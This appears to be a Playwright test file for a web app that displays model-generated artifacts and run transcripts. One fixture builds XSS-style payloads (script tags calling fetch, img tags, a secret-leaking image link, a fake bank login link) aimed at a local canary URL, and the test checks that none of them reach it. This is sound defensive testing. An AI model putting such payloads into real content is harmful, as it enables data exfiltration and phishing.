"""Texts of models as the page of a run draws them: artifacts of every type, transcripts; and runs of newer versions."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from playwright.async_api import expect
from tests.browser import Pages
from tests.canary import Canary
from tests.server.served import Served, served
from tests.server.test_run_page import look

from quire.engine.records import NewRun
from quire.trust.keys import SigningKey
from quire.trust.sign_file import sign_file, signable
from quire.trust.trusted_keys import keep, own_key

pytestmark = pytest.mark.asyncio(loop_scope="session")

MAKER = """# Maker

Makes something of a type.

## STEP 1: Make

Make it.

## ARTIFACTS

type: {kind}
"""
KINDS = ("markdown", "json", "mermaid", "chartjs", "html_css", "javascript", "typescript")
CHART = {
    "type": "bar",
    "data": {"labels": ["Mon", "Tue"], "datasets": [{"label": "tickets", "data": [3, 5]}]},
}


def artifacts(canary: str) -> dict[str, str]:
    """Artifacts of each type, all of which try to reach a server."""
    script = f"<script>fetch('{canary}')</script>"
    return {
        "markdown": f"## A *title*\n\n![leak]({canary}/?q=secret) [bank]({canary}/login)\n\n{script}",
        "json": json.dumps({"name": f"<img src='{canary}/j'>", "numbers": list(range(300))}),
        "mermaid": f"flowchart LR\n  A[Start] --> B[End <img src='{canary}/m'>]",
        "chartjs": json.dumps(CHART),
        "html_css": f"<h1>Hello</h1><img src='{canary}/h'><script>fetch('{canary}/s')</script>",
        "javascript": f"const a = 1; // '</code><script>'\nfetch('{canary}/js');",
        "typescript": "export const answer: number = 42;",
    }


async def test_each_type_of_artifact_is_drawn_and_reaches_nobody(pages: Pages, tmp_path: Path, canary: Canary) -> None:
    documents = {f"{kind}.playbook.md": MAKER.format(kind=kind) for kind in KINDS}
    texts = artifacts(canary.url)
    shown = {
        "markdown": ".markup h2",
        "json": ".json",
        "mermaid": ".frame-mermaid[data-state=drawn] iframe",
        "chartjs": ".frame-chart[data-state=drawn] iframe",
        "html_css": ".frame-html[data-state=drawn] iframe",
        "javascript": ".markup .hl-kd",
        "typescript": ".markup .hl-k",
    }
    async with served(tmp_path / "team", documents) as server:
        # The frames try what their policy forbids, and the console says so: the canary is what counts.
        page = await pages.open(server.url, guarded=False)
        for kind in KINDS:
            model = server.script(f"{kind}.json", [texts[kind]])
            run = await server.start(f"{kind}.playbook.md", model=model)
            await server.site.runs.ended(run["id"], 10)
            await page.goto(server.at(f"/runs/{run['id']}/artifact"))
            await expect(page.locator(shown[kind]).first).to_be_visible()
            await page.get_by_role("button", name="Source", exact=True).click()
            await expect(page.locator("pre.source")).to_contain_text(texts[kind].strip().splitlines()[0][:30])
            await page.get_by_role("group", name="How to show it").get_by_role("button").first.click()
            await expect(page.locator(shown[kind]).first).to_be_visible()
            await look(page, f"artifact-{kind}")
            if kind == "markdown":
                await expect(page.get_by_text("image from 127.0.0.1 — not loaded")).to_be_visible()
                await expect(page.get_by_text("(127.0.0.1)")).to_be_visible()
            if kind == "json":
                await page.get_by_role("button", name="numbers: 300 items").click()
                await expect(page.get_by_role("button", name="100 more of 200")).to_be_visible()
            if kind == "chartjs":
                await page.get_by_text("The data as a table").click()
                await expect(page.get_by_role("cell", name="5")).to_be_visible()
        assert canary.hits == []


async def test_a_large_artifact_is_shown_in_part(pages: Pages, tmp_path: Path) -> None:
    async with served(tmp_path / "team", {"markdown.playbook.md": MAKER.format(kind="markdown")}) as server:
        model = server.script("s.json", ["word " * 500_000])
        run = await server.start("markdown.playbook.md", model=model)
        await server.site.runs.ended(run["id"], 20)
        page = await pages.open(server.at(f"/runs/{run['id']}/artifact"))
        await expect(page.get_by_text("The rest is not shown here.")).to_be_visible()
        assert len(await page.locator("pre.source").inner_text()) <= 200_000
        await page.locator(".tree-row").nth(1).click()
        await expect(page.get_by_role("button", name="To the end")).to_be_visible()


DIRECTIVE = """# Greet

```xml
<directive name="greet" version="1.0.0">
  <metadata><description>Greet a guest</description><category>house</category><author>desk</author>
  <model tier="low" /><limits turns="6" />
  <permissions><execute><tool>rye.file-system.read</tool></execute></permissions></metadata>
  <inputs><input name="guest" type="string" required="true">Who is coming</input></inputs>
  <outputs><output name="words" type="string" required="true">The greeting</output></outputs>
</directive>
```

<process><step name="write">Write two sentences to {input:guest}.</step></process>
"""
READ = "rye_file_system_read"
TURNS = [
    {"text": "I look for a file first.", "tool_calls": [{"name": READ, "input": {"path": "x"}}]},
    {"tool_calls": [{"name": "directive_return", "input": {"words": "Welcome, Ada."}}]},
]


async def test_a_thread_reads_as_a_conversation(pages: Pages, tmp_path: Path) -> None:
    async with served(tmp_path / "team", {".ai/directives/house/greet.md": DIRECTIVE}) as server:
        settings, now = server.site.runtime.settings, datetime.now(UTC)
        keep(settings, SigningKey.generate("default"), now)
        signed = signable(server.folder / ".ai/directives/house/greet.md", server.folder)
        assert sign_file(signed, own_key(settings), now) == []
        model = server.script("turns.json", TURNS)
        run = await server.start(".ai/directives/house/greet.md", inputs={"guest": "Ada"}, model=model)
        await server.site.runs.ended(run["id"], 10)
        page = await pages.open(server.at(f"/runs/{run['id']}"))
        tree = page.get_by_role("tree")
        await tree.get_by_role("treeitem", name="Turn 1").click()
        await expect(page.get_by_text("I look for a file first.")).to_be_visible()
        await expect(page.get_by_text("calls rye_file_system_read")).to_be_visible()
        await page.locator(".tabs").get_by_role("link", name="Prompt").click()
        await expect(page.locator(".message").filter(has_text="Write two sentences to Ada.")).to_be_visible()
        await look(page, "run-turn")
        await tree.get_by_role("treeitem", name="Turn 2").click()
        await expect(page).to_have_url(re.compile(r"step=thread%2Fturn%5B2%5D"))


async def unreadable(server: Served, run: str) -> str:
    """Store a run that a newer version of the rules has started."""
    row = await server.site.runtime.store.get(run)
    assert row is not None
    pins = {**row.pins, "semantics_version": 999}
    await server.site.runtime.store.create(
        NewRun("of-tomorrow", "Of tomorrow", row.format, row.document, 1.0, pins, {})
    )
    return "of-tomorrow"


async def test_of_a_run_that_cannot_be_replayed_the_row_is_shown(pages: Pages, tmp_path: Path) -> None:
    async with served(tmp_path / "team", {"markdown.playbook.md": MAKER.format(kind="markdown")}) as server:
        run = await server.start("markdown.playbook.md", model=server.script("s.json", ["x"]))
        page = await pages.open(server.at(f"/runs/{await unreadable(server, run['id'])}"))
        await expect(page.get_by_role("heading", level=1)).to_contain_text("Of tomorrow")
        await expect(page.get_by_text("version 999 of the rules").first).to_be_visible()
        await expect(page.get_by_role("treeitem")).to_have_count(1)
        await page.goto(server.at("/runs/nothing-like-it"))
        await expect(page.get_by_text("unknown run nothing-like-it")).to_be_visible()
    pages.faults[:] = [fault for fault in pages.faults if "404" not in fault and "409" not in fault]
